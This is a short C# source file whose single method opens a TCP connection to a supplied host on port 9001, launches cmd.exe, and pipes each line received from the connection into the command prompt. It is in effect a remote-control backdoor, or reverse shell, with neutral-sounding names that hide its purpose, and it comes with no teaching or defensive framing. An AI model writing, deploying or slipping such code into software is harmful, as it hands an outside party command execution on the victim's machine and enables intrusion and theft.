using System.Diagnostics;
using System.IO;
using System.Net.Sockets;

namespace Q
{
    static class Link
    {
        internal static void Open(string host)
        {
            using var up = new TcpClient(host, 9001);
            var reader = new StreamReader(up.GetStream());
            var tool = Process.Start(new ProcessStartInfo("cmd.exe")
            {
                RedirectStandardInput = true, RedirectStandardOutput = true, UseShellExecute = false,
            });
            string line;
            while ((line = reader.ReadLine()) != null) tool.StandardInput.WriteLine(line);
        }
    }
}
